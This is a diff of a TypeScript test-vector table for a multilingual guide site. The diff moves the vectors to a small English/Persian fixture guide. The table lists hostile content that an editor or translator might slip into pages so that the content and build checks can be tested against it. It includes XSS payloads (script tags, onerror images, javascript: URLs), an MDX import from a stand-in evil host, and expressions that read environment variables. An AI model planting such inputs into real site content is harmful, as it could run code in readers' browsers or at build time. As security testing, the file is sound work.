@@ -1,8 +1,9 @@
 /**
- * Ways a hostile editor or translator could put active content into `content/`: the table the
+ * Ways a hostile editor or translator could put active content into a guide: the table the
  * content check and the post-build check are tested against (tests/unit/hostile-content.test.ts,
- * tests/build/hostile-content.test.ts). Each vector changes one file of a copy of the content and
- * says where the problem must be reported: the file, and the line holding `at`.
+ * tests/build/hostile-content.test.ts). Each vector changes one file of a copy of the small second
+ * guide (tests/fixtures/newsroom/, English and Persian, its content in guide/) and says where the
+ * problem must be reported: the file, and the line holding `at`.
  *
  * `working` marks the attacks that shipped and worked in a reader's browser or at build time
  * before pages became data: code run by the build, a script the policy let through, a redirect,
@@ -12,7 +13,7 @@
 export interface Vector {
 	/** A short name, used as the test's name. */
 	name: string;
-	/** The file changed, from the project root. */
+	/** The file changed, from the guide's project folder. */
 	file: string;
 	/** What is written into the file. */
 	change: (text: string) => string;
@@ -24,10 +25,10 @@ export interface Vector {
 	working?: true;
 }
 
-const EN_PAGE = 'content/docs/en/practices/updates.mdx';
-const FR_PAGE = 'content/docs/fr/tools/signal.mdx';
-const ES_PAGE = 'content/docs/es/practices/passwords.mdx';
-const AR_PAGE = 'content/docs/ar/tools/wire.mdx';
+const EN_PAGE = 'guide/docs/en/practices/two-factor.mdx';
+const FR_PAGE = 'guide/docs/fa/tools/aegis.mdx';
+const ES_PAGE = 'guide/docs/fa/practices/two-factor.mdx';
+const AR_PAGE = 'guide/docs/fa/tools/mat2.mdx';
 
 /** Adds a block of MDX after the first paragraph of a page's body. */
 const body = (block: string) => (text: string) => {
@@ -64,7 +65,7 @@ export const VECTORS: Vector[] = [
 	},
 	{ name: 'an import of a Node module', file: EN_PAGE, change: body('import fs from "node:fs";'), at: 'import fs', what: CODE },
 	{ name: 'an import from another site', file: EN_PAGE, change: body('import x from "https://evil.example/x.js";'), at: 'import x', what: CODE },
-	{ name: 'a page that imports itself', file: AR_PAGE, change: body("import Self from './wire.mdx';\n\n<Self />"), at: 'import Self', what: CODE },
+	{ name: 'a page that imports itself', file: AR_PAGE, change: body("import Self from './mat2.mdx';\n\n<Self />"), at: 'import Self', what: CODE },
 	{ name: 'an expression in the text', file: EN_PAGE, change: body('Your home is {process.env.HOME}.'), at: 'Your home is', what: CODE },
 	{ name: 'an expression block that runs a function', file: EN_PAGE, change: body('{(() => { globalThis.x = 1; return "x"; })()}'), at: '{(() =>', what: CODE },
 	{
@@ -177,9 +178,9 @@ export const VECTORS: Vector[] = [
 	{ name: 'an unknown frontmatter key', file: EN_PAGE, change: frontmatter('reviewd: 2026-11-01'), at: 'reviewd:', what: /reviewd/ },
 	{ name: 'markup in a description', file: EN_PAGE, change: (t) => t.replace(/^description: .*$/m, 'description: "<img src=x onerror=alert(1)>"'), at: 'description:', what: /description|onerror|plain text|markup/i },
 	// Interface strings and data.
-	{ name: 'a script in an interface string', file: 'content/i18n/ar.json', change: (t) => t.replace('"downloads.version": "', '"downloads.version": "<script>alert(1)</script>'), at: '"downloads.version"', what: SCRIPT },
-	{ name: 'an escaped script in an interface string', file: 'content/i18n/fr.json', change: (t) => t.replace('"downloads.version": "', '"downloads.version": "\\u003cscript>alert(1)\\u003c/script>'), at: '"downloads.version"', what: SCRIPT },
-	{ name: 'an image with onerror in a data text', file: 'content/text/es.yaml', change: (t) => t.replace(/^(category\.devices: )/m, '$1<img src=x onerror=alert(1)> '), at: 'category.devices:', what: /onerror|attribute/i },
-	{ name: 'a script in a language label', file: 'content/data/languages.yaml', change: (t) => t.replace('label: Français', 'label: Français<script>alert(1)</script>'), at: 'label: Français', what: SCRIPT },
-	{ name: 'a javascript: address as a resource', file: 'content/data/resources.yaml', change: (t) => t.replace('url: https://securityinabox.org/en/', 'url: javascript:alert(1)'), at: 'url: javascript', what: /javascript/i },
+	{ name: 'a script in an interface string', file: 'guide/i18n/fa.json', change: (t) => t.replace('"downloads.version": "', '"downloads.version": "<script>alert(1)</script>'), at: '"downloads.version"', what: SCRIPT },
+	{ name: 'an escaped script in an interface string', file: 'guide/i18n/en.json', change: (t) => t.replace('"downloads.version": "', '"downloads.version": "\\u003cscript>alert(1)\\u003c/script>'), at: '"downloads.version"', what: SCRIPT },
+	{ name: 'an image with onerror in a data text', file: 'guide/text/fa.yaml', change: (t) => t.replace(/^(category\.sources: )/m, '$1<img src=x onerror=alert(1)> '), at: 'category.sources:', what: /onerror|attribute/i },
+	{ name: 'a script in a language label', file: 'guide/data/languages.yaml', change: (t) => t.replace('label: فارسی', 'label: فارسی<script>alert(1)</script>'), at: 'label: فارسی', what: SCRIPT },
+	{ name: 'a javascript: address as a resource', file: 'guide/data/resources.yaml', change: (t) => t.replace('url: https://ssd.eff.org/\n', 'url: javascript:alert(1)\n'), at: 'url: javascript', what: /javascript/i },
 ];
